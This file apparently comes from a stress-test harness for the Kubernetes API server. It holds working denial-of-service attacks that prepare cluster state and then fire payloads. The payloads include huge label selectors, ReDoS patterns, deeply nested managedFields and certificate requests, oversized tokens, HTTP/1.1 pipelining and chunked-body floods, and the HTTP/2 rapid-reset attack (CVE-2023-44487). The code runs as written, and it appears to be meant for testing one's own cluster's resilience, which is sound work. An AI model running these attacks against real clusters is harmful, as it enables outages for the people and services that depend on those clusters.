// Attacks that need something to be there first: objects to go through, definitions, policies, a user of few rights; and
// those that send what no client would: thousands of requests, chunks or frames at once.
import http2 from 'node:http2';
import tls from 'node:tls';

export const LIMITED_TOKEN = 'limited';

const MAPS = '/api/v1/namespaces/default/configmaps';
const SECRETS = '/api/v1/namespaces/default/secrets';
const DEFINITIONS = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions';
const THINGS = '/apis/attack.test/v1/things';
const RBAC = '/apis/rbac.authorization.k8s.io/v1';
const POLICIES = '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies';
const BINDINGS = '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings';
/** Objects that lists and watches go through. */
const MANY = 2000;
const MEGABYTES_3 = 3 * 1024 * 1024 - 4096;

const times = (count, item) => Array.from({ length: count }, (_, i) => item(i));
const fields = (count, name, value) => Object.fromEntries(times(count, (i) => [name(i), value(i)]));

const thing = (name, spec) => ({
  apiVersion: 'attack.test/v1',
  kind: 'Thing',
  metadata: { name },
  spec,
});

const definition = (plural, schema, columns = []) => ({
  metadata: { name: `${plural}.attack.test` },
  spec: {
    group: 'attack.test',
    scope: 'Cluster',
    names: { plural, kind: plural[0].toUpperCase() + plural.slice(1, -1) },
    versions: [
      {
        name: 'v1',
        served: true,
        storage: true,
        schema: { openAPIV3Schema: { type: 'object', properties: { spec: schema } } },
        additionalPrinterColumns: columns,
      },
    ],
  },
});

const TEXT = { type: 'string' };
const THING_SCHEMA = {
  type: 'object',
  properties: {
    backtracking: { type: 'array', items: { type: 'string', pattern: '^((a+)+|(a|a?)+)$' } },
    long: { type: 'string', pattern: '^(x?){200}(x|y){200}$' },
    picks: {
      type: 'array',
      items: { type: 'string', enum: times(5000, (i) => `choice-${i}`) },
    },
    set: { type: 'array', items: TEXT, 'x-kubernetes-list-type': 'set' },
    map: {
      type: 'array',
      items: { type: 'object', properties: { a: TEXT, b: TEXT }, required: ['a', 'b'] },
      'x-kubernetes-list-type': 'map',
      'x-kubernetes-list-map-keys': ['a', 'b'],
    },
    any: {
      type: 'array',
      items: { type: 'string', anyOf: times(200, (i) => ({ pattern: `^p${i}$` })) },
    },
    free: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true },
    ruled: {
      type: 'array',
      maxItems: 5000,
      items: {
        type: 'string',
        maxLength: 10,
        'x-kubernetes-validations': [{ rule: 'self != "x"' }],
      },
    },
  },
};
const COLUMNS = times(20, (i) => ({
  name: `c${i}`,
  type: 'string',
  jsonPath: `.spec.free.l[*].l[*].v${i}`,
}));

const NESTED =
  'object.data.all(a, object.data.all(b, object.data.all(c, a.size() + b.size() + c.size() > 0)))';
const PATTERN = `object.data.all(a, a.matches('^((k+)+|(k|k?)+|k[0-9]+)$'))`;

const policy = (name, resource, expression) => ({
  metadata: { name },
  spec: {
    failurePolicy: 'Fail',
    matchConstraints: {
      resourceRules: [
        { apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: [resource] },
      ],
    },
    validations: [{ expression }],
  },
});
const binding = (name) => ({
  metadata: { name },
  spec: { policyName: name, validationActions: ['Deny'] },
});

const wideRule = (count) => ({
  apiGroups: times(count, (i) => `g${i}`),
  resources: times(count, (i) => `r${i}`),
  verbs: times(count, (i) => `v${i}`),
});

/** What the attacks find. */
export async function prepareState(ask) {
  const post = (path, object) => ask('POST', path, { body: JSON.stringify(object) });
  for (let at = 0; at < MANY; at += 50)
    await Promise.all(
      times(50, (i) =>
        post(MAPS, {
          metadata: { name: `m${at + i}`, labels: { at: `v${at + i}`, of: 'many' } },
          data: { a: 'x'.repeat(300) },
        }),
      ),
    );
  await post(MAPS, {
    metadata: { name: 'wide' },
    data: fields(
      20_000,
      (i) => `k${i}`,
      () => 'v',
    ),
  });
  await post('/api/v1/namespaces/default/pods', {
    metadata: { name: 'args' },
    spec: { containers: [{ name: 'c', image: 'i', args: times(40_000, (i) => `a${i}`) }] },
  });
  await post(DEFINITIONS, definition('things', THING_SCHEMA, COLUMNS));
  await post(POLICIES, policy('nested', 'secrets', NESTED));
  await post(
    POLICIES,
    policy('pattern', 'serviceaccounts', PATTERN.replaceAll('data', 'metadata.labels')),
  );
  await post(BINDINGS, binding('nested'));
  await post(BINDINGS, binding('pattern'));
  await post(`${RBAC}/clusterroles`, {
    metadata: { name: 'limited' },
    rules: [
      { apiGroups: ['rbac.authorization.k8s.io'], resources: ['*'], verbs: ['get', 'create'] },
      ...times(2000, (i) => ({ apiGroups: ['x'], resources: [`r${i}`], verbs: ['get'] })),
    ],
  });
  await post(`${RBAC}/clusterrolebindings`, {
    metadata: { name: 'limited' },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'limited' },
    subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'limited' }],
  });
}

/** A depth of ASN.1 in a request for a certificate. */
function nestedRequest(depth) {
  let der = Buffer.from([5, 0]);
  for (let i = 0; i < depth; i++) {
    const length =
      der.length < 128
        ? [der.length]
        : [0x83, der.length >> 16, (der.length >> 8) & 255, der.length & 255];
    der = Buffer.concat([Buffer.from([0x30, ...length]), der]);
  }
  const pem = `-----BEGIN CERTIFICATE REQUEST-----\n${der.toString('base64')}\n-----END CERTIFICATE REQUEST-----\n`;
  return Buffer.from(pem).toString('base64');
}

/** Everything that a socket answers until nothing came for a while. */
function raw({ host, bytes, quietMs = 300 }) {
  return new Promise((resolve) => {
    const socket = tls.connect({ host, port: 6443, rejectUnauthorized: false }, () => {
      socket.write(bytes);
    });
    let answers = 0;
    let first = 0;
    let timer;
    const end = () => {
      socket.destroy();
      resolve({ status: first, message: `${answers} answers` });
    };
    socket.on('data', (chunk) => {
      const found = chunk.toString('latin1').match(/HTTP\/1\.1 (\d+)/g) ?? [];
      answers += found.length;
      first ||= Number(found[0]?.slice(9) ?? 0);
      clearTimeout(timer);
      timer = setTimeout(end, quietMs);
    });
    socket.on('error', end);
    socket.on('close', end);
  });
}

/** Requests at once on one connection of HTTP/2; `reset` takes each back at once. */
async function burst({ host, token, count, reset = false, headers = {}, body }) {
  const session = http2.connect(`https://${host}:6443`, { rejectUnauthorized: false });
  session.on('error', () => undefined);
  const statuses = new Map();
  const one = () =>
    new Promise((resolve) => {
      const stream = session.request({
        ':path': MAPS + '/target',
        authorization: `Bearer ${token}`,
        ...headers,
      });
      stream.on('response', (answer) =>
        statuses.set(answer[':status'], (statuses.get(answer[':status']) ?? 0) + 1),
      );
      stream.on('error', resolve);
      stream.on('close', resolve);
      stream.resume();
      if (body) body(stream);
      else stream.end();
      if (reset) stream.close(http2.constants.NGHTTP2_CANCEL);
    });
  await Promise.all(times(count, one));
  session.destroy();
  return { status: [...statuses.keys()][0] ?? 0, message: JSON.stringify([...statuses]) };
}

async function watches(ask, count, query) {
  const { openWatch } = ask;
  const open = await Promise.all(
    times(count, (i) => openWatch(`${MAPS}?watch=true&resourceVersion=0&${query(i)}`)),
  );
  await ask.reset();
  const answer = await ask('PATCH', `${MAPS}/m1`, {
    body: '{"data":{"b":"c"}}',
    type: 'application/merge-patch+json',
  });
  for (const close of open) close();
  return answer;
}

/** The attacks by name; `ask` has `openWatch`, which answers what closes it, and `reset`, which forgets what was held so far. */
export function stateAttacks(ask, { host, token }) {
  const post = (path, object) => () => ask('POST', path, { body: JSON.stringify(object) });
  const patch = (path, type, body) => () =>
    ask('PATCH', path, { body: JSON.stringify(body), type: `application/${type}` });
  const list = (query, headers) => () => ask('GET', `${MAPS}?${query}`, headers);
  const selector = (text) => `labelSelector=${encodeURIComponent(text)}`;
  const head = (extra) => `Host: x\r\nAuthorization: Bearer ${token}\r\n${extra}\r\n`;
  const attacks = {
    'a label selector of 40,000 values over 2,000 objects': list(
      selector(`at notin (${times(40_000, (i) => `w${i}`).join(',')})`),
    ),
    'a label selector of 1,000 terms over 2,000 objects': list(
      selector(times(1000, (i) => `at!=w${i}`).join(',')),
    ),
    'a field selector of 12,000 terms over 2,000 objects': list(
      `fieldSelector=${encodeURIComponent(times(12_000, (i) => `metadata.name!=w${i}`).join(','))}`,
    ),
    'a list of 2,000 objects': list('resourceVersion=0'),
    'a list of 2,000 objects as a Table': list('resourceVersion=0', {
      accept: 'application/json;as=Table;v=v1;g=meta.k8s.io',
    }),
    'a list of 2,000 objects as metadata': list('resourceVersion=0', {
      accept: 'application/json;as=PartialObjectMetadataList;v=v1;g=meta.k8s.io',
    }),
    'a list of 2,000 objects in protobuf': list('resourceVersion=0', {
      accept: 'application/vnd.kubernetes.protobuf',
    }),
    'a list of 2,000 objects in YAML': list('resourceVersion=0', { accept: 'application/yaml' }),
    'a list of 2,000 objects in gzip': list('resourceVersion=0', { encoding: 'gzip' }),
    'an object of 20,000 fields in YAML': () =>
      ask('GET', `${MAPS}/wide`, { accept: 'application/yaml' }),
    'an object of 20,000 fields in protobuf': () =>
      ask('GET', `${MAPS}/wide`, { accept: 'application/vnd.kubernetes.protobuf' }),
    '200 watches of 1,000 terms each': () =>
      watches(ask, 200, (w) => selector(times(1000, (i) => `at!=w${w}-${i}`).join(','))),
    'a watch that begins with 2,000 objects': () =>
      ask(
        'GET',
        `${MAPS}?watch=true&sendInitialEvents=true&resourceVersionMatch=NotOlderThan&allowWatchBookmarks=true&timeoutSeconds=1`,
      ),
    'retained keys without end': patch(`${MAPS}/wide`, 'strategic-merge-patch+json', {
      data: { $retainKeys: times(40_000, (i) => `n${i}`) },
    }),
    'a JSON patch of 10,000 removals at the head of a long list': patch(
      '/api/v1/namespaces/default/pods/args',
      'json-patch+json',
      times(10_000, () => ({ op: 'remove', path: '/spec/containers/0/args/0' })),
    ),
    'a JSON patch of 10,000 additions at the head of a long list': patch(
      '/api/v1/namespaces/default/pods/args',
      'json-patch+json',
      times(10_000, () => ({ op: 'add', path: '/spec/containers/0/args/0', value: 'x' })),
    ),
    'managedFields of 40,000 fields': post(MAPS, {
      metadata: {
        name: 'managed',
        managedFields: [
          {
            manager: 'a',
            operation: 'Update',
            apiVersion: 'v1',
            fieldsType: 'FieldsV1',
            fieldsV1: {
              'f:data': fields(
                40_000,
                (i) => `f:k${i}`,
                () => ({}),
              ),
            },
          },
        ],
      },
      data: { a: 'b' },
    }),
    'managedFields of 6,000 managers': post(MAPS, {
      metadata: {
        name: 'managers',
        managedFields: times(6000, (i) => ({
          manager: `m${i}`,
          operation: 'Update',
          apiVersion: 'v1',
          fieldsType: 'FieldsV1',
          fieldsV1: { 'f:data': { 'f:a': {} } },
        })),
      },
      data: { a: 'b' },
    }),
    'an update after 6,000 managers': patch(`${MAPS}/managers`, 'merge-patch+json', {
      data: { a: 'c' },
    }),
    'managedFields nested 900 deep': post(MAPS, {
      metadata: {
        name: 'deep',
        managedFields: [
          {
            manager: 'a',
            operation: 'Apply',
            apiVersion: 'v1',
            fieldsType: 'FieldsV1',
            fieldsV1: times(900, () => 0).reduce((below) => ({ 'f:a': below }), {}),
          },
        ],
      },
      data: { a: 'b' },
    }),
    'a pattern that backtracks': post(
      THINGS,
      thing('back', { backtracking: times(500, () => `${'a'.repeat(2000)}!`) }),
    ),
    'a pattern of many states': post(THINGS, thing('states', { long: 'x'.repeat(500_000) })),
    'an enum of 5,000 for 5,000 values': post(
      THINGS,
      thing('picks', { picks: times(5000, () => 'choice-4999') }),
    ),
    'an enum of 5,000 for 5,000 other values': post(
      THINGS,
      thing('picks', { picks: times(5000, (i) => `other-${i}`) }),
    ),
    'a set of 45,000 values': post(THINGS, thing('set', { set: times(45_000, (i) => `s${i}`) })),
    'a set of 45,000 equal values': post(THINGS, thing('same', { set: times(45_000, () => 's') })),
    'a map list of 15,000 entries': post(
      THINGS,
      thing('map', { map: times(15_000, (i) => ({ a: `a${i}`, b: 'b' })) }),
    ),
    'any of 200 patterns for 5,000 values': post(
      THINGS,
      thing('any', { any: times(5000, () => 'none') }),
    ),
    '5,000 values with a rule each': post(
      THINGS,
      thing('ruled', { ruled: times(5000, (i) => `r${i}`) }),
    ),
    '45,000 free fields': post(
      THINGS,
      thing('free', {
        free: fields(
          45_000,
          (i) => `f${i}`,
          () => 1,
        ),
      }),
    ),
    'an apply of 45,000 free fields': patch(
      `${THINGS}/applied?fieldManager=a`,
      'apply-patch+yaml',
      thing('applied', {
        free: fields(
          45_000,
          (i) => `f${i}`,
          () => 1,
        ),
      }),
    ),
    'lists in lists for columns': post(
      THINGS,
      thing('columns', { free: { l: times(150, () => ({ l: times(100, () => ({ v1: 'x' })) })) } }),
    ),
    'a Table with columns over lists in lists': () =>
      ask('GET', THINGS, { accept: 'application/json;as=Table;v=v1;g=meta.k8s.io' }),
    'a policy of nested loops': post(SECRETS, {
      metadata: { name: 'cel' },
      data: fields(
        300,
        (i) => `k${i}`,
        () => 'eA==',
      ),
    }),
    'a policy with a pattern that backtracks': post('/api/v1/namespaces/default/serviceaccounts', {
      metadata: {
        name: 'cel',
        labels: fields(
          500,
          (i) => `${'k'.repeat(50)}${i}.`.slice(0, -1),
          () => 'x',
        ),
      },
    }),
    'a role of a million permissions': () =>
      ask('POST', `${RBAC}/clusterroles`, {
        body: JSON.stringify({ metadata: { name: 'wide' }, rules: [wideRule(100)] }),
        token: LIMITED_TOKEN,
      }),
    'a role of 10,000 rules beside 2,000 owned ones': () =>
      ask('POST', `${RBAC}/clusterroles`, {
        body: JSON.stringify({
          metadata: { name: 'many' },
          rules: times(5000, (i) => ({
            apiGroups: ['x'],
            resources: [`r${i % 2000}`],
            verbs: ['get'],
          })),
        }),
        token: LIMITED_TOKEN,
      }),
    'a review of rules': () =>
      ask('POST', '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', {
        body: '{"spec":{"namespace":"default"}}',
        token: LIMITED_TOKEN,
      }),
    'a request for a certificate nested 50,000 deep': post(
      '/apis/certificates.k8s.io/v1/certificatesigningrequests',
      {
        metadata: { name: 'nested' },
        spec: { request: nestedRequest(3000), signerName: 'a.test/b', usages: ['client auth'] },
      },
    ),
    'a token of 700 kB': () => ask('GET', MAPS, { token: `a.${'b'.repeat(700_000)}.c` }),
    'a token of 700 kB of JSON': () =>
      ask('GET', MAPS, {
        token: `${Buffer.from('{"alg":"RS256"}').toString('base64url')}.${Buffer.from(`{"iss":"x","a":[${'1,'.repeat(250_000)}1]}`).toString('base64url')}.c`,
      }),
    '100 definitions of 3,000 fields': async () => {
      const schema = {
        type: 'object',
        properties: fields(
          3000,
          (i) => `f${i}`,
          () => ({ ...TEXT, description: 'a field' }),
        ),
      };
      let answer;
      for (let i = 0; i < 100; i++)
        answer = await ask('POST', DEFINITIONS, {
          body: JSON.stringify(definition(`wides${i}s`, schema)),
        });
      return answer;
    },
    'OpenAPI v2 of 100 definitions': () => ask('GET', '/openapi/v2'),
    'OpenAPI v2 of 100 definitions in protobuf': () =>
      ask('GET', '/openapi/v2', {
        accept: 'application/com.github.proto-openapi.spec.v2@v1.0+protobuf',
      }),
    'OpenAPI v3 of 100 definitions': () => ask('GET', '/openapi/v3/apis/attack.test/v1'),
    'a definition nested 900 deep': post(
      DEFINITIONS,
      definition(
        'deeps',
        times(450, () => 0).reduce((below) => ({ type: 'object', properties: { a: below } }), TEXT),
      ),
    ),
    'a definition of 16,000 fields': post(
      DEFINITIONS,
      definition('broads', {
        type: 'object',
        properties: fields(
          16_000,
          (i) => `f${i}`,
          () => TEXT,
        ),
      }),
    ),
    'a definition of anyOf in anyOf': post(
      DEFINITIONS,
      definition('bombs', {
        type: 'object',
        properties: { a: TEXT },
        ...times(7, () => 0).reduce((below) => ({ anyOf: times(4, () => below) }), {
          properties: { a: { pattern: 'x' } },
        }),
      }),
    ),
    '2,000 requests in one write': () =>
      raw({ host, bytes: `GET /version HTTP/1.1\r\n${head('')}`.repeat(2000) }),
    '2,000 anonymous requests in one write': () =>
      raw({ host, bytes: 'GET /x HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(2000) }),
    'a body of 300,000 chunks of one byte': () =>
      raw({
        host,
        bytes: `POST ${MAPS} HTTP/1.1\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n${head('')}${'1\r\n \r\n'.repeat(300_000)}0\r\n\r\n`,
        quietMs: 1500,
      }),
    '3,000 requests at once over HTTP/2': () => burst({ host, token, count: 3000 }),
    '3,000 requests over HTTP/2, each taken back (CVE-2023-44487)': () =>
      burst({ host, token, count: 3000, reset: true }),
    'a body of 100,000 frames of one byte': () =>
      burst({
        host,
        token,
        count: 1,
        headers: { ':method': 'POST', ':path': MAPS, 'content-type': 'application/json' },
        body: (stream) => {
          for (let i = 0; i < 100_000; i++) stream.write(' ');
          stream.end();
        },
      }),
    'a deletion of 2,000 objects': () => ask('DELETE', `${MAPS}?labelSelector=of%3Dmany`),
  };
  void MEGABYTES_3;
  return attacks;
}
